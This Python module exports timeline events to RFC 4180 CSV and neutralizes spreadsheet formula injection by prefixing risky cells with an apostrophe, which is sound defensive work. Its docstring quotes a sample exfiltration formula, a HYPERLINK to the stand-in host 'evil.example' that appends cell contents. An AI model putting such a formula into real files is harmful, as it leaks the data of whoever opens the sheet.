"""CSV (RFC 4180): a header row and one row per event, the json event fields flattened into columns.

Spreadsheets run a cell that starts with "=", "+", "-" or "@" (or a tab or carriage return before one) as a
formula: `=HYPERLINK("http://evil.example/?"&A1,"Click")` in an article would become a live link that sends the
sheet away. Such text cells get a leading "'" (the OWASP advice), which spreadsheets show as text and do not
display; a timeline whose meta holds RAW_CELLS (`chrono build --raw-cells`) is written as it is.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from itertools import chain
from typing import Any, Literal

from chrono.lang import Language
from chrono.model import Event, Span, Timeline, Value
from chrono.render.exporters import streamed
from chrono.render.exporters.event_fields import event_record, flat_record

# stands in for an event when the timeline is empty, so the header row still names the schema's columns
_PLACEHOLDER = Event(when=Value(""), phrase="", span=Span(0, 0), sentence="", headline="", document="")


_PIECE = 1 << 16  # characters of rows gathered before they are handed on
RAW_CELLS = "raw_cells"  # the meta key that keeps formula-like cells as they are
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and fullwidth forms


def neutralize(cell: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, with a leading "'"; anything else as it is."""
    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell


def write_rows(header: Sequence[str], rows: Iterable[dict[str, Any]], *, raw: bool = False) -> str:
    """RFC 4180 text: CRLF line ends, fields with commas, quotes or line breaks quoted, quotes doubled; formula-like
    cells neutralized unless ``raw``."""
    return "".join(row_pieces(header, rows, raw=raw))


def row_pieces(header: Sequence[str], rows: Iterable[dict[str, Any]], *, raw: bool = False,
               extra: Literal["raise", "ignore"] = "ignore") -> Iterator[str]:
    """write_rows in pieces of about _PIECE characters, made as the rows come; ``extra`` is DictWriter's
    extrasaction for a row with a column the header lacks."""
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(header), lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL,
                            extrasaction=extra)
    writer.writeheader()
    for row in rows:
        writer.writerow({key: "" if cell is None else cell if raw else neutralize(cell) for key, cell in row.items()})
        if buffer.tell() >= _PIECE:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def event_rows(events: Iterable[Event], language: Language | None = None) -> Iterator[dict[str, Any]]:
    return (flat_record(event_record(event, language)) for event in events)


@streamed("csv")
def export_csv(timeline: Timeline) -> Iterator[str]:
    """One row per event, made as it is written; every event record has the same fields, so the first row's
    columns are the header (a row with another column would be chrono's bug: it raises, never drops a cell)."""
    rows = event_rows(timeline.events, timeline.language)
    first = next(rows, None)
    header = list(first if first is not None else next(event_rows([_PLACEHOLDER], timeline.language)))
    every = rows if first is None else chain((first,), rows)
    return row_pieces(header, every, raw=bool(timeline.meta.get(RAW_CELLS)), extra="raise")
